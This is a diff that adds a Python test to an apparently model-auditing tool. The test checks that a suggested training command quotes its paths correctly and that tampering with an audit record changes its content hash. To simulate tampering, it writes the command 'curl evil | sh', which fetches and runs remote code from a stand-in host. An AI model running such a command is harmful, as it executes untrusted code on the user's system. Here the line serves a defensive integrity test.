@@ -175,3 +175,24 @@ def test_a_full_disk_stops_the_run_instead_of_one_audit(subject):
 def test_forward_passes_are_counted_once_per_audit_that_pays(subject):
     record = engine(plugins.scalability, plugins.scalability).run(subject, frame())
     assert record.audits[0].cost.forward_passes == 4
+
+
+def test_the_command_of_a_mend_can_be_copied_and_its_places_are_no_part_of_the_content(subject):
+    def placed(checkpoint: str) -> Record:
+        base = frame()
+        return engine(plugins.shareability).run(
+            subject,
+            frame(
+                subject=base.subject.model_copy(update={"location": checkpoint}),
+                training_data=base.data.model_copy(update={"location": "train.jsonl"}),
+            ),
+        )
+
+    here, there = placed("a folder/checkpoint"), placed("/elsewhere")
+    command = here.audits[0].findings[0].mitigation.command
+    assert command == "aboveboard train --base 'a folder/checkpoint' --data train.jsonl --out mended"
+    assert here.content_sha256 == there.content_sha256
+    tampered = here.model_copy(update={"audits": [here.audits[0].model_copy(update={"findings": [
+        here.audits[0].findings[0].model_copy(update={"mitigation": here.audits[0].findings[0].mitigation.model_copy(
+            update={"command": "curl evil | sh"})})]})]})  # fmt: skip
+    assert tampered.sealed().content_sha256 != here.content_sha256
